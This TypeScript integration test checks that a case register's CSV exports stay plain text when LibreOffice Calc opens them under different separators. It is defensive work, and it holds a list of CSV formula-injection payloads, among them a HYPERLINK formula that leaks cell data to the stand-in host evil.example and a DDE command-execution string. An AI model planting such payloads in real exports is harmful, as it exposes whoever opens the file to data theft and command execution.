// Issue 9, acceptance 6: the register's CSV exports stay data when a
// spreadsheet opens them, whatever separator its locale splits on. A register
// is built through the real register code from case events whose titles and
// reasons carry formulas — at a cell's start, after `;` and `,`, after a
// line break, a tab or spaces, in full-width form, as a DDE call, beside NUL
// bytes and bidirectional controls, and at the end of a 2,000-character reason
// — and its exports are opened by headless LibreOffice Calc (Debian's
// libreoffice-calc, installed when missing and running as root) with `,`, with
// `;`, with tab, and with all three at once, formulas evaluated: no cell is a
// formula, and the text read back is what the register holds.
// Two control files written without the neutralisation, opened the same way,
// must give formula cells: proof that the import options do evaluate
// formulas, and that the old rule (an apostrophe at a cell's start only) is
// beaten by `;`.
// NOTE: in the integration project because it starts an external program (and
// may install it); it needs no federation. LibreOffice starts once per import
// convention, about 1.3 s each on this machine.
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RoomId } from '../../policies/cases/index.ts';
import { ANA, AMINA, content, envelope, move, OPENED } from '../../policies/cases/testing/fixtures.ts';
import { originalText, readCsv } from '../../bridge/register/csv-read.ts';
import { casesCsv, transitionsCsv } from '../../bridge/register/export.ts';
import { readRows, type RegisterRows } from '../../bridge/register/rows.ts';
import { batch, inRoom, must, open, tempDir, TRUSTED } from '../../bridge/register/testing.ts';
import { LIMITS } from '../../policies/cases/vocabulary/limits.ts';
import { transitionIdOf } from '../../policies/cases/ids/case.ts';
import type { EventId } from '../../policies/cases/ids/matrix.ts';
import { convertToFods, ensureLibreOffice, type CsvImport } from '../support/libreoffice.ts';
import { fodsRows, formulas } from '../support/fods.ts';

/** What other parties write into titles (at most LIMITS.title characters) and reasons. */
const PAYLOADS = [
	'=HYPERLINK("http://evil.example/?leak="&A1,"Open the annex")',
	"=cmd|' /C calc'!A0",
	'+1+1',
	'-2+3',
	'@SUM(1,2)',
	'-',
	'-5',
	'\t=1+1',
	'   =1+1',
	'Fraude;=HYPERLINK("http://evil.example","x")',
	'Fraude,=1+1',
	'Fraude; =1+1',
	'Fraude;\t=1+1',
	'Fraude;"=1+1"',
	'Fraude;-2+3;@SUM(1;2);+4',
	'Line one\n=1+1',
	'Line one\r\n=1+1',
	'Tab\t=1+1',
	'\uFF1D1+1',
	'Fraude;\uFF1D1+1',
	"'=1+1",
	'NUL\u0000;=1+1',
	'Invoice_\u202Egpj.exe;=1+1',
];

/** A reason of the maximum length with a formula after every `;` and `,`, and one at its very end. */
const LONG_REASON = (() => {
	const tail = ';=1+1';
	let text = '';
	while (text.length + 12 + tail.length <= LIMITS.reason) text += 'Motivo;=1+1,';
	return text + tail;
})();

const room = (i: number) => `!sec${i}:matrix.mp.gt.rogatory.example` as RoomId;

/** One request per payload, its title the payload, its first move's reason the payload too; one amended title; one long reason. */
function hostileRegister(file: string): RegisterRows {
	const register = open(file);
	const events = PAYLOADS.flatMap((payload, i) => {
		const opening = `$open-${i}` as EventId;
		return inRoom(room(i), [
			envelope(opening, ANA, 1000 + i, { ...OPENED, fields: { ...OPENED.fields, title: payload, respondBy: '2026-03-31' } }),
			envelope(`$sent-${i}`, ANA, 2000 + i, move(transitionIdOf(opening), 'draft', 'sent', i === 0 ? LONG_REASON : payload)),
		]);
	});
	const amended = inRoom(room(0), [
		envelope('$amend-0', AMINA, 3000, { type: 'amended', changes: { title: 'Fraude;=1+1' }, reason: 'x;=2+2' }),
	]);
	// A reference carrying a formula is refused by the register (references are letters, digits and - _ / . : # ( ) №);
	// no client of ours builds one, so the event is written by hand, as an attacker would.
	const forged = structuredClone(content(OPENED)) as { 'org.rogatory.case': { fields: Record<string, unknown> } };
	forged['org.rogatory.case'].fields['requestingReference'] = '=1+1';
	const refused = [{ room: room(99), eventId: '$open-99' as EventId, sender: ANA, originServerTs: 4000, content: forged, trust: TRUSTED }];
	// So is a title longer than the vocabulary allows: no cell is longer than a spreadsheet's (32,767 characters in Excel).
	const tooLong = structuredClone(content(OPENED)) as { 'org.rogatory.case': { fields: Record<string, unknown> } };
	tooLong['org.rogatory.case'].fields['title'] = `${'A'.repeat(LIMITS.title)};=1+1`;
	refused.push({ room: room(98), eventId: '$open-98' as EventId, sender: ANA, originServerTs: 4001, content: tooLong, trust: TRUSTED });
	must(register.ingest(batch([...events, ...amended, ...refused])));
	const rows = readRows(register.db);
	register.close();
	return rows;
}

/** The same rows written without any neutralisation (RFC 4180 quoting only), as a control. */
const plainCsv = (rows: readonly (readonly string[])[]): string =>
	rows.map((row) => row.map((cell) => (/[",\r\n]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell)).join(',') + '\r\n').join('');

/** The rule the export had before this issue: an apostrophe before = + - @ tab CR at a cell's start only. */
const startOnlyCsv = (rows: readonly (readonly string[])[]): string =>
	plainCsv(rows.map((row) => row.map((cell) => (/^[=+\-@\t\r]/.test(cell) ? `'${cell}` : cell))));

const IMPORTS: readonly (CsvImport & { readonly name: string })[] = [
	{ name: 'comma', separators: [','], trimSpaces: false },
	{ name: 'semicolon', separators: [';'], trimSpaces: false },
	{ name: 'tab', separators: ['\t'], trimSpaces: false },
	{ name: 'all-three', separators: [',', ';', '\t'], trimSpaces: false },
	{ name: 'semicolon-trimmed', separators: [';'], trimSpaces: true },
	// NOTE: the neutraliser is an apostrophe, which the import dialog also offers as the text delimiter.
	{ name: 'semicolon-apostrophe-delimited', separators: [';'], quote: "'", trimSpaces: true },
];

/** The files opened and saved as .fods by LibreOffice, read. */
async function opened(files: readonly string[], options: CsvImport, out: string): Promise<string[]> {
	mkdirSync(out);
	const converted = await convertToFods(soffice, files, options, out);
	if (!converted.ok) throw new Error(converted.error);
	return converted.value.map((file) => readFileSync(file, 'utf8'));
}

let temp: ReturnType<typeof tempDir>;
let rows: RegisterRows;
let soffice: string;

beforeAll(async () => {
	const found = await ensureLibreOffice();
	if (!found.ok) throw new Error(found.error);
	soffice = found.value;
	temp = tempDir();
	rows = hostileRegister(temp.file('register.db'));
	const titles = rows.cases.map((c) => [c.roomId, c.title ?? '']);
	const reasons = rows.transitions.map((t) => [t.roomId, t.reason ?? '']);
	writeFileSync(temp.file('cases.csv'), casesCsv(rows));
	writeFileSync(temp.file('transitions.csv'), transitionsCsv(rows));
	writeFileSync(temp.file('plain.csv'), plainCsv([...titles, ...reasons]));
	writeFileSync(temp.file('start-only.csv'), startOnlyCsv([...titles, ...reasons]));
}, 900_000);

afterAll(() => temp?.cleanup());

describe('the register exports opened by LibreOffice Calc', () => {
	it('hold every hostile request, and no request whose reference carries a formula or whose title is too long', () => {
		expect(rows.cases).toHaveLength(PAYLOADS.length);
		expect(rows.cases.map((c) => c.roomId)).not.toContain(room(99));
		expect(rows.cases.map((c) => c.roomId)).not.toContain(room(98));
		expect(rows.cases.find((c) => c.roomId === room(0))?.title).toBe('Fraude;=1+1');
		expect(rows.transitions.find((t) => t.roomId === room(0))?.reason).toBe(LONG_REASON);
	});

	for (const options of IMPORTS) {
		it(`contain no formula cell when read as ${options.name}`, async () => {
			const files = ['cases.csv', 'transitions.csv', 'plain.csv', 'start-only.csv'].map((name) => temp.file(name));
			const [cases, transitions, plain, startOnly] = await opened(files, options, join(temp.dir, options.name));
			for (const [name, xml] of [
				['cases', cases],
				['transitions', transitions],
			] as const) {
				expect(formulas(xml ?? ''), name).toEqual([]);
				expect(xml, name).not.toContain('table:formula=');
			}
			// The controls: the same texts, not neutralised, do become formulas with these options.
			expect(formulas(plain ?? '').length).toBeGreaterThan(0);
			if (options.separators.includes(';')) expect(formulas(startOnly ?? '').length).toBeGreaterThan(0);
			// The neutralised payloads are there, as text.
			const texts = fodsRows(cases ?? '')
				.flat()
				.map((cell) => cell.text);
			expect(texts.some((text) => text.includes("'=HYPERLINK("))).toBe(true);
			expect(texts.some((text) => text.includes("'=cmd|"))).toBe(true);
		});
	}

	it('read with `,` give back exactly the texts the register holds, numbers and dates usable', async () => {
		const [casesXml, transitionsXml] = await opened(
			[temp.file('cases.csv'), temp.file('transitions.csv')],
			{ separators: [','], trimSpaces: false },
			join(temp.dir, 'readback'),
		);
		for (const [csvName, xml, expected] of [
			['cases.csv', casesXml, rows.cases.map((c) => [c.roomId, c.title, c.openedBy])],
			['transitions.csv', transitionsXml, rows.transitions.map((t) => [t.roomId, t.reason, t.by])],
		] as const) {
			const written = readCsv(readFileSync(temp.file(csvName), 'utf8'));
			const header = written[0] ?? [];
			const shown = fodsRows(xml ?? '').slice(0, written.length);
			const columns = csvName === 'cases.csv' ? ['room_id', 'title', 'opened_by'] : ['room_id', 'reason', 'by'];
			const indexes = columns.map((column) => header.indexOf(column));
			// What LibreOffice shows in each text cell is what the file says (LibreOffice keeps line breaks as LF)…
			for (const [r, record] of written.entries())
				for (const i of indexes)
					expect(shown[r]?.[i]?.text, `${csvName} row ${r} column ${header[i]}`).toBe(record[i]?.replace(/\r\n/g, '\n'));
			// …and undoing the neutralisation and the marking gives the register's text back.
			const restored = written.slice(1).map((record) => indexes.map((i) => originalText(record[i] ?? '')));
			expect(restored).toEqual(expected.map((row) => row.map((cell) => cell ?? '')));
		}
		const cases = fodsRows(casesXml ?? '');
		const header = cases[0]?.map((cell) => cell.text) ?? [];
		const first = cases[1] ?? [];
		expect(first[header.indexOf('notes')]?.type).toBe('float');
		expect(first[header.indexOf('respond_by')]?.type).toBe('date');
		expect(first[header.indexOf('terminal')]?.type).toBe('boolean');
	});
});
